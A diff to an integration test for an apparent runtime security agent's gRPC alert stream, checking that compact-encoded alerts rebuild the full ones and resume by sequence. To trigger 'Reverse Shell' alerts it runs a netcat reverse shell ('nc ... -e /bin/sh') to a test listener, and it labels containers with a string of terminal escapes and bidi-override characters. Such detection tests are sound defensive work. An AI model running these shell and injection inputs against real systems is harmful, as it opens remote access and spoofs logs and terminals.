@@ -8,6 +8,7 @@ import descriptor from 'protobufjs/ext/descriptor/index.js';
 import { protoPath as HEALTH_PROTO } from 'grpc-health-check';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { subscribe, type SubscribeRequestObject, type WireEnvelope } from '../../agent/delivery/client.js';
+import { createCompactReader } from '../../agent/delivery/compact-render.js';
 import { integrationUnavailable } from './docker-env.js';
 import { startAgent, type AgentHandle } from './harness/agent.js';
 import { listen, type Listener } from './harness/listener.js';
@@ -21,6 +22,7 @@ const require = createRequire(import.meta.url);
 const SHOP = `i9shop${process.pid}`;
 const OTHER = `i9other${process.pid}`;
 const HOSTILE_NS = `i9hostile${process.pid}`;
+const COMPACT_NS = `i9compact${process.pid}`;
 
 /** A subscription that records what it got, in order. */
 interface Recorder {
@@ -33,9 +35,9 @@ interface Recorder {
 
 const open = new Set<Recorder>();
 
-function record(addr: string, req: SubscribeRequestObject): Recorder {
+function record(addr: string, req: SubscribeRequestObject, raw = false): Recorder {
   const got: WireEnvelope[] = [];
-  const handle = subscribe(addr, req, (e) => got.push(e));
+  const handle = subscribe(addr, req, (e) => got.push(e), { raw });
   void handle.done.then(() => open.delete(rec));
   const rec = {} as Recorder;
   Object.assign(rec, {
@@ -247,6 +249,71 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
     );
   });
 
+  it('a COMPACT subscriber rebuilds exactly what a FULL one gets from real alerts, hostile strings included, and resumes with since_sequence', async () => {
+    const hostile = 'evil\nforged line\r\x1b[31mred |=\\"\' \u202emoc.live\u2028end %proc.name';
+    const filter = { namespaces: [COMPACT_NS] };
+    const full = record(agent.grpcAddr, filter);
+    const compact1 = record(agent.grpcAddr, { ...filter, encoding: 'ALERT_ENCODING_COMPACT' }, true);
+    await Promise.all([full.handle.subscribed, compact1.handle.subscribed]);
+    const shell = async (pod: string): Promise<void> => {
+      const l = await listen(gateway);
+      listeners.push(l);
+      runPod({ namespace: COMPACT_NS, pod, container: 'app', image: TOOLS, labels: { 'io.kubernetes.container.name': hostile }, command: ['nc', gateway, String(l.port), '-e', '/bin/sh'] });
+      await l.waitForConnection(15_000);
+      await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === pod, 15_000);
+    };
+    const compactAlertOf = (r: Recorder, pod: string) => (): boolean => r.got.some((e) => e.payload === 'compactAlert' && JSON.stringify(e.compactAlert).includes(JSON.stringify(pod)));
+    const fullAlertOf = (pod: string) => (): boolean => full.alerts().some((a) => a.rule === 'Reverse Shell' && field(a, 'k8s.pod.name') === pod);
+
+    await shell('rs-compact-1');
+    await until('the first alert, FULL', fullAlertOf('rs-compact-1'));
+    await until('the first alert, COMPACT', compactAlertOf(compact1, 'rs-compact-1'));
+    compact1.handle.cancel();
+    await compact1.handle.done;
+    const last = compact1.got.filter((e) => e.sequence !== undefined).at(-1)!;
+
+    // While the COMPACT subscriber is away, another reverse shell; it resumes after the last sequence it saw.
+    await shell('rs-compact-2');
+    await until('the second alert, FULL', fullAlertOf('rs-compact-2'));
+    const bootId = compact1.got.find((e) => e.bootId)!.bootId!;
+    const compact2 = record(agent.grpcAddr, { ...filter, encoding: 'ALERT_ENCODING_COMPACT', sinceSequence: Number(last.sequence), bootId }, true);
+    await until('the second alert, COMPACT, resumed', compactAlertOf(compact2, 'rs-compact-2'));
+    // Let what is in flight arrive on both, then stop.
+    await new Promise((r) => setTimeout(r, 1_000));
+    compact2.handle.cancel();
+    full.handle.cancel();
+    await Promise.all([compact2.handle.done, full.handle.done]);
+
+    // The COMPACT streams really are compact: schemas, compact alerts, node and boot id once per stream.
+    for (const c of [compact1, compact2]) {
+      const kinds = c.got.map((e) => e.payload);
+      expect(kinds).toContain('alertSchema');
+      expect(kinds).toContain('compactAlert');
+      expect(kinds).not.toContain('alert');
+      expect(c.got.filter((e) => e.node !== undefined)).toHaveLength(1);
+      expect(c.got.findIndex((e) => e.payload === 'alertSchema')).toBeLessThan(c.got.findIndex((e) => e.payload === 'compactAlert'));
+      // The pipeline hands the rule's layout over: the agent's own text is rebuilt, never sent.
+      expect(c.got.filter((e) => e.payload === 'compactAlert' && (e.compactAlert as { output?: string }).output !== undefined)).toEqual([]);
+    }
+    // Rebuilt (each stream with its own reader), the two COMPACT streams together are the FULL stream: same envelopes, same order, nothing twice.
+    const rebuilt = [compact1, compact2].flatMap((c) => {
+      const reader = createCompactReader();
+      return c.got.map((e) => reader.read(e)).filter((e) => e !== undefined);
+    });
+    const upTo = Math.min(Number(rebuilt.at(-1)!.sequence), Number(full.got.at(-1)!.sequence));
+    const inRange = (l: WireEnvelope[]): WireEnvelope[] => l.filter((e) => e.payload !== 'loss' && Number(e.sequence) <= upTo);
+    expect(inRange(rebuilt)).toEqual(inRange(full.got));
+    const shells = inRange(rebuilt).filter((e) => e.payload === 'alert' && (e.alert as { rule: string }).rule === 'Reverse Shell');
+    expect(shells.map((e) => field(e.alert as Record<string, unknown>, 'k8s.pod.name'))).toEqual(expect.arrayContaining(['rs-compact-1', 'rs-compact-2']));
+    for (const e of shells) {
+      const a = e.alert as Record<string, unknown>;
+      expect(field(a, 'k8s.container.name')).toBe(hostile);
+      expect(String(a.output)).toContain(hostile);
+      // The text the agent printed on stdout, byte for byte.
+      expect(agent.alerts.map((x) => x.output)).toContain(a.output);
+    }
+  });
+
   it('answers the standard health check, and reflection describes the service well enough to call it without the proto', async () => {
     const healthPkg = grpc.loadPackageDefinition(protoLoader.loadSync(HEALTH_PROTO, { enums: String })) as unknown as {
       grpc: { health: { v1: { Health: grpc.ServiceClientConstructor } } };
@@ -305,8 +372,10 @@ describe.skipIf(unavailable)('gRPC event stream from a real agent', () => {
     listeners.push(l);
     const sub = record(agent.grpcAddr, { kinds: ['KIND_ALERT'], rules: [RULE], namespaces: [HOSTILE_NS] });
     await sub.handle.subscribed;
-    // `script` gives tail a terminal, so it prints its aligned colour lines.
-    const tty = spawn('script', ['-qec', `${process.execPath} ${MAIN} tail --addr ${agent.grpcAddr} --namespace ${HOSTILE_NS} --kind alert`, '/dev/null'], { stdio: ['pipe', 'pipe', 'pipe'] });
+    // `script` gives tail a terminal, so it prints its aligned colour lines. `exec`: the shell script
+    // runs the command with ($SHELL, else /bin/sh) must not stay in the pty's process group, or dash
+    // gets the Ctrl-C too and exits 130 whatever tail does.
+    const tty = spawn('script', ['-qec', `exec ${process.execPath} ${MAIN} tail --addr ${agent.grpcAddr} --namespace ${HOSTILE_NS} --kind alert`, '/dev/null'], { stdio: ['pipe', 'pipe', 'pipe'] });
     const json = spawn(process.execPath, [MAIN, 'tail', '--addr', agent.grpcAddr, '--namespace', HOSTILE_NS, '--kind', 'alert'], { stdio: ['ignore', 'pipe', 'pipe'] });
     let ttyOut = '';
     let jsonOut = '';
